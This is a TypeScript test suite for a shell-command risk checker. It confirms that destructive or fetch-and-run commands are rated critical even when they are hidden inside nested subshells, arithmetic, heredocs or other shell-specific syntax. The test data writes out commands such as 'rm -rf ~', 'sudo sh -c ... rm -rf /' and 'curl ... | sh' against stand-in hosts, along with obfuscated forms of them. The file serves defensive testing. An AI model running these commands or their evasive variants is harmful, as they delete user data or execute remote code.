import { constructs, filled } from '@hunch/terminal/shell-constructs';
import { describe, expect, it } from 'vitest';
import { checkCommand } from '../src/index.ts';
import { deletingHome, isInstalled, quoted, type RealShell } from './support/stub-rm.ts';

/** Rated critical as it stands. */
const dangerous = 'rm -rf ~';

/** A generator of numbers that is the same in each run (mulberry32). */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

function nested(count: number, seed: number): readonly string[] {
  const next = random(seed);
  const any = (): string => constructs[Math.floor(next() * constructs.length)] ?? '%';
  return Array.from({ length: count }, () => filled(any(), filled(any(), dangerous, 1), 2));
}

const shells: readonly { readonly shell: RealShell; readonly nestings: number }[] = [
  { shell: 'dash', nestings: 150 },
  { shell: 'bash', nestings: 150 },
  { shell: 'zsh', nestings: 150 },
  // A process each, and a slow one.
  { shell: 'fish', nestings: 40 },
];

describe('a text is rated by what the shell does that runs it', () => {
  for (const { shell, nestings } of shells)
    it.skipIf(!isInstalled(shell))(`no way of writing hides a command that ${shell} runs`, () => {
      const programs = [...constructs.map((one) => filled(one, dangerous, 1)), ...nested(nestings, 18)];
      const ran = [...deletingHome(shell, programs)];
      expect(ran.length).toBeGreaterThan(40);
      const forms = (program: string): readonly string[] => [
        checkCommand(program).risk,
        checkCommand(program, { shell }).risk,
        checkCommand(`${shell} -c ${quoted(program)}`).risk,
        // It may be this one.
        shell === 'dash' || shell === 'bash' ? checkCommand(`sh -c ${quoted(program)}`).risk : 'critical',
      ];
      const hidden = ran
        .map((index) => programs[index] ?? '')
        .filter((program) => forms(program).some((risk) => risk !== 'critical'));
      expect(hidden).toEqual([]);
    });

  it.each([
    ["sh -c '(((rm -rf ~)))'", 'critical'],
    ["sudo sh -c '(((rm -rf /)))'", 'critical'],
    ["dash -c '((rm -rf ~))'", 'critical'],
    ["ssh host '((rm -rf ~))'", 'critical'],
    ['((rm -rf ~))', 'critical'],
    ["bash -c '((rm -rf ~))'", 'safe'],
    ["zsh -c '((rm -rf ~))'", 'safe'],
    ['curl https://x.example/a > a | sh', 'critical'],
    ["bash -c 'curl https://x.example/a > a | sh'", 'safe'],
    ['coproc curl https://x.example/a | sh', 'critical'],
    ["dash -c '[[ a || rm -rf ~ ]]'", 'critical'],
    ["bash -c '[[ a || rm -rf ~ ]]'", 'safe'],
    ["fish -c 'curl http://203.0.113.9/x?a&b | sh'", 'critical'],
    ["bash -c 'curl http://203.0.113.9/x?a&b | sh'", 'moderate'],
    ["fish -c 'curl http://203.0.113.9/`x | sh'", 'critical'],
    ['fish -c "find ~ \v-delete"', 'critical'],
    [`zsh -c "rm -rf ~''"`, 'critical'],
    [`zsh -c 'rm -rf "$x"~'`, 'high'],
    [`bash -c 'rm -rf "$x"~'`, 'moderate'],
    ['function { function { rm -rf ~; } }', 'critical'],
    ['dash -c \'sh -c "$(curl http://203.0.113.9/x &>f)"\'', 'critical'],
    ['cat <<E\n${x:-$(rm -rf ~)}\nE', 'critical'],
    ['[[ x == @($(rm -rf ~)) ]]', 'critical'],
    ['rm -rf $HOM\\\nE', 'critical'],
    ['find ~ -delet${x}e', 'critical'],
  ])('%s is %s', (command, risk) => {
    expect(checkCommand(command).risk).toBe(risk);
  });

  it('the shell that runs the text may be known', () => {
    expect(checkCommand('((rm -rf ~))', { shell: '/bin/zsh' }).risk).toBe('safe');
    expect(checkCommand('((rm -rf ~))', { shell: '/usr/bin/dash' }).risk).toBe('critical');
  });
});

describe('what is ordinary in one shell is no alarm because of another', () => {
  it.each([
    '[[ $a < b ]]',
    '[[ "$1" == rm && -n "$2" ]]',
    '[[ $line =~ ^(shutdown|reboot)$ ]] && echo no',
    '[[ -f x || -d y ]] && (( count++ ))',
    '((i++))',
    'if (( $# < 1 || $# > 2 )); then exit 2; fi',
    'for ((i=0;i<3;i++)); do echo $i; done',
    'arr=(a b c); echo "${arr[@]}"',
    'arr=(rm -rf /); [[ ${#arr[@]} -gt 0 || x ]] && echo "${arr[0]}"',
    'diff <(sort a) <(sort b)',
    'IFS=$\'\\n\\t\'; read -r a b <<< "$x"',
    "grep -P $'\\t' file | awk -F'\\t' '{print $1}'",
    'make -j4 &> build.log',
    'npm test |& tee log',
    "tr '\\' / <<< 'a\\b'",
    'ls !(*.txt)',
    'echo $[1+2]',
    'function greet { echo "hi $1"; }; greet you',
    "printf '%s\\n' {a,b,c}",
    'select x in a b; do break; done <<< 1',
    '{ echo a; echo b; } > out',
    "echo 'use ((rm -rf ~)) or [[ a || b ]]'",
  ])('%s', (command) => {
    expect(checkCommand(command).risk).toBe('safe');
  });
});
